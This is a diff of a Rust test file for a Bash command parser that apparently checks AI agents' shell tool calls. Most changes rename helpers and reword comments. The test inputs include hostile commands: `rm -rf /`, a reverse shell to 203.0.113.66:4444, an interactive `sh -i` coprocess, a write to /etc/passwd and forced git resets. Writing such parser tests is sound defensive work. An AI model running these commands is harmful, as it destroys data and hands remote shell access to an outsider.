@@ -7,11 +7,11 @@ use crate::description::builtin_programs;
 
 fn read_text(text: &str) -> ShellReading {
     let tool = ToolCall::new("Bash", json!({ "command": text }));
-    let ground = Ground::new(Some("/home/user"), Some("/home/user/project"));
-    read_commands(&tool, &ground, Some("/home/user/project"), false, builtin_programs())
+    let roots = PathRoots::new(Some("/home/user"), Some("/home/user/project"));
+    read_commands(&tool, &roots, Some("/home/user/project"), false, builtin_programs())
 }
 
-/// The commands of a text, one after another; what was not understood is among them.
+/// The commands of a text, separated by semicolons; `not understood` is added if parsing failed.
 fn commands(text: &str) -> String {
     let read = read_text(text);
     let command = |command: &ShellCommand| {
@@ -28,7 +28,7 @@ fn commands(text: &str) -> String {
 }
 
 #[track_caller]
-fn table(rows: &[(&str, &str)]) {
+fn assert_commands(rows: &[(&str, &str)]) {
     for (text, wanted) in rows {
         assert_eq!(commands(text), *wanted, "{text:?}");
     }
@@ -36,7 +36,7 @@ fn table(rows: &[(&str, &str)]) {
 
 #[test]
 fn no_command_is_lost_at_the_end_of_a_line() {
-    table(&[
+    assert_commands(&[
         ("ls|sort|uniq|cat\nrm -rf / >x", "ls; sort; uniq; cat; rm -rf / >x"),
         ("ls|sort|uniq|grep b\ncp a b 2>&1 # x\n", "ls; sort; uniq; grep b; cp a b"),
         ("a && b 2>&1\n\\rm -rf /", "a; b; rm -rf /"),
@@ -50,7 +50,7 @@ fn no_command_is_lost_at_the_end_of_a_line() {
 
 #[test]
 fn compound_commands_are_read_behind_what_stands_before_them() {
-    table(&[
+    assert_commands(&[
         ("! for x in a; do git push --force; done", "git push --force"),
         ("! { git push --force; }", "git push --force"),
         ("if ! { a; }; then b; fi", "a; b"),
@@ -59,7 +59,7 @@ fn compound_commands_are_read_behind_what_stands_before_them() {
         ("coproc S { sh -i 2>&1; }", "sh -i"),
         ("! case x in *) a;; esac", "a"),
         ("! (( i++ )) < r | b", "<; b"),
-        // Only some shells take it for arithmetic.
+        // Only some shells parse it as arithmetic.
         ("((rm -rf /))", "rm -rf /"),
         ("(( a - b / 2 ))", ""),
     ]);
@@ -67,7 +67,7 @@ fn compound_commands_are_read_behind_what_stands_before_them() {
 
 #[test]
 fn words_and_files_around_redirections_are_kept() {
-    table(&[
+    assert_commands(&[
         ("python3 - <<'EOF'\nimport os\nEOF", "python3 -"),
         ("git commit -F - <<E\nx\nE", "git commit -F -"),
         ("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "bash -i"),
@@ -127,20 +127,20 @@ fn facts_say_how_sure_they_are() {
 
 #[test]
 fn each_shell_runs_the_lines_before_one_that_it_refuses() {
-    // Bash writes to the file; zsh takes `<1-9>` for a pattern, and only zsh understands the last line.
+    // Bash writes to the file. Zsh reads `<1-9>` as a pattern, and only zsh understands the last line.
     let text = "echo x <1-9>/etc/passwd\n{ echo y }";
     let read = read_text(text);
     assert!(!read.unparsed);
     assert!(
         read.commands.iter().any(|command| command.outputs.iter().any(|path| path.text == "/etc/passwd"))
     );
-    // A text inside it is asked about on its own.
+    // Syntax errors of a nested text are reported separately.
     assert!(read_text("{ bash -c \"echo 'a\" }").unparsed);
 }
 
 #[test]
 fn functions_within_functions_are_read() {
-    table(&[
+    assert_commands(&[
         ("f1() { f2() { rm x; }; }", "rm x"),
         ("f() { g() { a; }; g; }; f", "f; g; a"),
         (
@@ -152,7 +152,7 @@ fn functions_within_functions_are_read() {
 
 #[test]
 fn values_are_known_out_of_arrays_and_lines() {
-    table(&[
+    assert_commands(&[
         ("declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[a]}", "git reset --hard"),
         (
             "declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[$k]}",
